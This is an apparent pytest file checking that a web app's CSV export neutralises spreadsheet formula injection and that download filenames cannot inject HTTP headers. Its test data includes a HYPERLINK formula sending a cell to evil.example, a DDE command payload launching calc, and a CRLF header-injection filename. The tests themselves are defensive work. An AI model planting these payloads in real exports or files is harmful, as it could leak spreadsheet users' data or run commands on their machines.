"""CSV exports cannot carry a formula: a text cell a spreadsheet would evaluate is written as plain text.

Note titles, creator ids and note ids come from creators and platforms, not from the brand reading the export,
so a title like ``=HYPERLINK("https://evil.example/?x="&A1)`` must open as text in Excel or LibreOffice. The
report's own numbers (negative net GMV included) stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest

from conftest import event
from webkit import Client, Site, lake_copy, running_site

FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # the full-width sign a Chinese input method types; spreadsheets in CJK locales take it as "="
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_text_cells_that_start_a_formula_are_quoted_and_numbers_stay_numbers() -> None:
    from hongmao.web.csvexport import csv_response

    rows = [{"key": text, "orders": -3.5, "gmv": -12, "net_gmv": 0.25} for text in FORMULAS]
    rows.append({"key": "plain 标题 = fine", "orders": 1, "gmv": 2.0, "net_gmv": -0.5})
    body = csv_response(rows, ["key", "orders", "gmv", "net_gmv"], "x.csv").body
    cells = _cells(bytes(body).decode("utf-8"))
    assert cells[0] == ["key", "orders", "gmv", "net_gmv"]
    for text, row in zip(FORMULAS, cells[1:], strict=False):
        assert row[0] == "'" + text, row  # the leading quote makes a spreadsheet show the text as it is
        assert row[1:] == ["-3.5", "-12", "0.25"]  # the report's own numbers are not text
    assert cells[-1] == ["plain 标题 = fine", "1", "2.0", "-0.5"]
    split = csv_response([{"key": "one\rrow", "orders": 1}], ["key", "orders"], "x.csv").body
    assert _cells(bytes(split).decode("utf-8")) == [["key", "orders"], ["one\rrow", "1"]]  # a CR stays in its cell


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    lake = lake_copy(tmp_path_factory.mktemp("web-csv") / "lake")
    with running_site(lake) as s:
        yield s


def test_a_note_title_with_a_formula_exports_as_text_from_the_console(site: Site) -> None:
    t = "2025-06-03T10:00:00+08:00"
    note = event("note.published", t, "csv-note-1", note_id="=cmd|' /C calc'!A0", creator_id="@creator",
                 brand="lumiere", title=FORMULAS[0])  # fmt: skip
    with site.client(site.operator) as api:
        out = api.post("/api/v1/events", json=[note]).json()
        assert out["accepted"] == 1, out
    c = Client(site.server)
    try:
        assert c.post("/console/login", data={"key": site.keys["lumiere"], "next": "/console/"}).status_code == 303
        export = c.get("/console/notes.csv")
        assert export.status_code == 200
        rows = {row[0]: row for row in _cells(export.text)[1:]}
        row = rows["'=cmd|' /C calc'!A0"]
        assert row[1] == "'" + FORMULAS[0] and row[2] == "'@creator"
        assert not any(cell.startswith(("=", "+", "@")) for r in rows.values() for cell in r)
    finally:
        c.close()


def test_a_file_named_in_chinese_keeps_the_header_plain_ascii() -> None:
    from hongmao.web.csvexport import csv_response

    response = csv_response([], ["key"], 'notes-红猫"\r\nx-evil: 1-linear.csv')
    header = response.headers["content-disposition"]
    header.encode("latin-1")  # all HTTP/1.1 headers can carry; a raw Chinese name failed here: a 500
    assert header.startswith('attachment; filename="notes-') and "\r" not in header and "\n" not in header
    assert "filename*=UTF-8''notes-%E7%BA%A2%E7%8C%AB" in header
